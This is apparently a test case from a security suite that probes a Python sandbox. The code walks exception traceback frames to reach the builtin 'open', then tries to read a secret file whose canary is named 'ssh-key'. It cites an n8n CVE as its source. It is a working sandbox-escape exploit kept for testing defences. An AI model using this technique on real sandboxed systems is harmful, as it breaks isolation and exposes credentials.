# id: in-exception-format
# group: interpreter
# aim: Reach the builtins through the frames of an exception.
# judge: outside
# canary: ssh-key
# tier-l: enforced
# source: n8n CVE-2026-0863

try:
    raise ValueError
except ValueError as error:
    frame = error.__traceback__.tb_frame
    while frame.f_back:
        frame = frame.f_back
    reached = frame.f_builtins["open"]
try:
    print(reached(P["secret"]).read())
except OSError as error:
    print("reached, and gained nothing:", error)
